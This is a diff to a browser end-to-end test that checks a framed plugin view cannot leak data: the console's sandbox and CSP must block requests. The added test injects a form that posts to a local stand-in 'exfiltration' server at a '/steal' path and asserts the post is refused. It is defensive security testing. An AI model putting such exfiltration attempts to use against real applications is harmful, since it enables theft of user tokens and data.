@@ -3,9 +3,11 @@
  * `startControlPlane` as `openfief up` runs it with the signed demo, on four loopback origins —
  * the console (127.0.0.1), the plugin proxy and the gateway (two ports of localhost, the other
  * site), and an "exfiltration" server (127.0.0.1, another port) — plus a foreign page that tries
- * to frame them. The owner signs in and follows ledger-view's link to its view: the console frames it,
- * mints its PluginToken and hands it over with a pinned target; the view lists the plugins through
- * the gateway; everything the CSP and the gateway must refuse is refused; the token is renewed
+ * to frame them. The owner signs in and follows ledger-view's link to its view: the console
+ * frames it, mints its PluginToken and hands it over with a pinned target; the view lists the plugins through
+ * the gateway; everything the CSP, the sandbox and the gateway must refuse is refused (a form
+ * post is refused twice: by the frame's sandbox, and by form-action on the view's page opened on
+ * its own, where only the CSP stands in the way); the token is renewed
  * before 80 % of its life (8 s in this test), and once the grant is revoked the next mint fails and
  * the view is told. The token never reaches storage, a URL or a DOM. Screenshots are kept in
  * test-artifacts/views/.
@@ -254,6 +256,20 @@ describe("a view in the console", () => {
     await until(view, `window.__rec.csp.filter((c) => c.blocked.startsWith(${JSON.stringify(exfil.origin)})).length >= 3`);
     const blocked = (await rec(view)).csp.filter((c) => c.blocked.startsWith(exfil.origin)).map((c) => c.directive).sort();
     expect(blocked).toEqual(["connect-src", "connect-src", "img-src"]);
+    expect(exfil.seen).toEqual([]);
+  });
+
+  it("refuses a form post from the framed view (its sandbox allows no forms), and that server sees no request", async () => {
+    const refused = page.waitForEvent("console", (m) => /Blocked form submission/.test(m.text()));
+    await view.evaluate(`(() => {
+      const f = document.createElement("form");
+      f.method = "post";
+      f.action = ${JSON.stringify(exfil.origin + "/steal?via=framed-form")};
+      document.body.append(f);
+      f.submit();
+    })()`);
+    expect((await refused).text()).toMatch(/sandboxed and the 'allow-forms' permission is not set/);
+    expect(view.url()).toBe(viewSrc);
     expect(exfil.seen).toEqual([]);
   });
 
